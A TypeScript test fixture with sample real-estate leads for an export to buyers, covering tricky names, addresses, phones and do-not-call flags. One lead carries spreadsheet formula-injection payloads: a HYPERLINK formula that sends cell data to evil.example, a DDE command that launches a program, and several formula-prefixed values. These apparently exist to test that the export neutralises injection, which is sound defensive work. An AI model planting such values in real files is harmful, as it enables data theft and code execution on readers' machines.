import type { SheetLead } from '#contract/delivery/lead-sheet.ts'

const NO_PARTS = { owner_first_name: null, owner_last_name: null, owner_company: null }
const NO_STREET = { mailing_street: null, mailing_city: null, mailing_state: null, mailing_zip: null }
/** A lead as files for buyers show it: little is known of it, unless a test says more. */
export const aSheetLead = (lead: Partial<SheetLead> = {}): SheetLead => ({
  acquired_at: new Date('2026-11-18T12:00:00Z'),
  sold_at: new Date('2026-11-21T10:00:00Z'),
  address: '1 Elm St',
  city: 'Austin',
  zip: '78701',
  owner_names: ['Ann Owner'],
  ...NO_PARTS,
  ...NO_STREET,
  mailing_address: null,
  ...{ phones: [], emails: [], facts: {}, source: 'County records' },
  ...{ is_do_not_call: false, consent: null, is_left_alone: false },
  ...lead,
})

const phone = (last: number, kind: 'mobile' | 'landline' | 'voip' | 'unknown', isDoNotCall = false) => ({
  number: `+1512555010${last}`,
  kind,
  isDoNotCall,
})

/** With names, addresses and phones that a file of theirs gets wrong easily. */
export const SHEET_LEADS: readonly SheetLead[] = [
  aSheetLead({
    owner_names: ['Mary Ann Van Dyke', 'Bob, Jr. "Bobby" Van Dyke'],
    owner_first_name: 'Mary Ann',
    owner_last_name: 'Van Dyke',
    mailing_address: 'PO Box 9, Rear, Boston, MA 02101',
    mailing_street: 'PO Box 9, Rear',
    mailing_city: 'Boston',
    mailing_state: 'MA',
    mailing_zip: '02101',
    phones: [phone(0, 'landline'), phone(1, 'mobile', true), phone(2, 'mobile'), phone(3, 'voip'), phone(4, 'unknown')],
    emails: ['mary@example.com', 'ann@example.com'],
    facts: { valueCents: 31_250_050, equityPercent: 74, beds: 3, yearBuilt: 1978, lastSaleOn: '2003-06-17' },
    consent: 'Web form, 2026-11-01',
  }),
  aSheetLead({
    address: '2 Elm St, Unit "B"',
    owner_names: ['Oak, Hill & Sons LLC'],
    mailing_address: '7 Main St, Winston-Salem, NC 27101-0042',
    phones: [phone(5, 'landline')],
  }),
  aSheetLead({
    address: '3 Peña St',
    owner_names: ['=HYPERLINK("http://evil.example/?"&A1,"Call me")'],
    owner_first_name: '=cmd|"/C calc"!A0',
    owner_last_name: '@SUM(A1)',
    owner_company: '+1+1',
    mailing_address: '-2+3',
    emails: ['-2+3@example.com'],
    phones: [phone(6, 'mobile')],
    is_do_not_call: true,
    source: '\t=1+1',
  }),
  aSheetLead({ address: '4 Elm St', owner_names: ['王 小明 Nguyễn'], mailing_address: 'Apartado 5, San José' }),
  aSheetLead({
    address: null,
    city: null,
    zip: null,
    owner_names: null,
    source: null,
    phones: null,
    is_left_alone: true,
  }),
  aSheetLead({ address: '6 Elm St', owner_names: ['Opted Out'], is_left_alone: true, phones: [phone(7, 'mobile')] }),
]
